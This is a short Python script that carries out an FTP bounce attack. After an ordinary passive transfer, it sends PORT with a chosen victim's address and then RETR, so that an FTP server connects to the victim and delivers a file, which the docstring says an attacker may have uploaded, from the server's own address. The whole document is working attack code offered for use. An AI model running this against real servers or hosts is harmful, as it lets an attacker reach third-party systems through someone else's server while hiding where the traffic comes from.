#!/usr/bin/env python3
"""An FTP client that makes the server connect to somebody else.

    ftp_bounce.py SERVER VICTIM PORT

First an honest transfer by PASV, then PORT with the address of the victim and RETR: the server
sends a file (which an attacker may have uploaded before) to the victim, from its own address.
"""

import re
import socket
import sys


class Control:
    """The control connection: one command, one reply."""

    def __init__(self, server):
        self.socket = socket.create_connection((server, 21), timeout=20)
        self.file = self.socket.makefile("rb")
        self.reply()

    def reply(self):
        line = self.file.readline().decode().rstrip()
        print(f"  {line}")
        return line

    def command(self, text):
        print(f"  > {text}")
        self.socket.sendall(text.encode() + b"\r\n")
        return self.reply()


def main():
    server, victim, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
    control = Control(server)
    control.command("USER anonymous")
    passive = control.command("PASV")
    numbers = [int(n) for n in re.search(r"\((.*)\)", passive).group(1).split(",")]
    address = (".".join(map(str, numbers[:4])), numbers[4] * 256 + numbers[5])
    with socket.create_connection(address, timeout=5) as data:
        control.command("RETR notes.txt")
        while data.recv(4096):
            pass
    control.reply()

    announced = ",".join(victim.split(".") + [str(port >> 8), str(port & 255)])
    control.command(f"PORT {announced}")
    if control.command("RETR notes.txt").startswith("150"):
        control.reply()
    control.command("QUIT")


main()
